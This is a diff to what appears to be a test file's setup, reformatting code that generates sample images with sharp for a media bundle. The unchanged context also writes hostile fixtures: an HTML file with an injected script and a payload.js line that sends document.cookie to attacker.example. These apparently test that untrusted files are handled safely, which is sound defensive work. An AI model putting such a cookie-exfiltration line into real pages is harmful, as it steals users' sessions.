@@ -26,9 +26,24 @@ beforeAll(async () => {
     writeFileSync(path.join(bundle, name), bytes);
     ORIGINALS.set(name, Buffer.from(bytes));
   };
-  put("lead.jpg", await sharp({ create: { width: 900, height: 600, channels: 3, background: "#4a6d8c" } }).jpeg().toBuffer());
-  put("photos/chart.png", await sharp({ create: { width: 500, height: 300, channels: 4, background: "#c81e1e80" } }).png().toBuffer());
-  put("unused.jpg", await sharp({ create: { width: 300, height: 200, channels: 3, background: "#222222" } }).jpeg().toBuffer());
+  put(
+    "lead.jpg",
+    await sharp({ create: { width: 900, height: 600, channels: 3, background: "#4a6d8c" } })
+      .jpeg()
+      .toBuffer(),
+  );
+  put(
+    "photos/chart.png",
+    await sharp({ create: { width: 500, height: 300, channels: 4, background: "#c81e1e80" } })
+      .png()
+      .toBuffer(),
+  );
+  put(
+    "unused.jpg",
+    await sharp({ create: { width: 300, height: 200, channels: 3, background: "#222222" } })
+      .jpeg()
+      .toBuffer(),
+  );
   put("evil.html", "<!doctype html><script>document.title='pwned'</script>");
   put("payload.js", "fetch('https://attacker.example/'+document.cookie)");
   put("notes.txt", "Source: the driver, phone +93 700 000 000. Do not publish.");
